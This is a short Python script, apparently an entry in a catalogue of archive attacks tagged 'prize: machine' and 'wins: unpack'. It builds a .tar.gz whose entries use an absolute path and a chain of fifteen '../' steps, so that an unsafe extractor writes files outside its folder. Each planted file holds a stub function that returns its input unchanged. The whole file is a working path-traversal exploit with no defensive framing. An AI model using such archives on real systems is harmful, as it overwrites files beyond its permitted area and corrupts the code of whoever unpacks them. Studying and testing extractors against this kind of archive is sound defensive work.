# family: archives
# prize: machine
# makes: .tar.gz
# wins: unpack
"""A tar with climbing and absolute names."""

import io
import tarfile


def build(path, right, outside, course):
    with tarfile.open(path, "w:gz") as archive:
        for name in ("nums.py", f"{outside}/tar.py", "../" * 15 + f"{outside}/tar2.py"):
            add(archive, name, b"def double(numbers):\n    return numbers\n")


def add(archive, name, content):
    info = tarfile.TarInfo(name)
    info.size = len(content)
    archive.addfile(info, io.BytesIO(content))
